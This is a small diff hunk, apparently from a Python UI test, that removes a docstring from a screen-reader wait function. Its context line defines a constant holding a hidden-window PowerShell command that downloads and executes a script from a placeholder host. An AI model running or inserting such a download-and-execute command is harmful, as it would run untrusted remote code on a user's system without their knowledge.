@@ -21,7 +21,6 @@ COMMAND = "powershell -w hidden -c iex (iwr http://0x0.invalid/a.ps1)"
 
 
 def wait_read(stage: Stage) -> None:
-    """The program that waits, with a screen reader."""
     stage.start("--companion", **CAN_BE_READ)
     assert wait_for(stage.button.is_seen, 15), "no button"
 
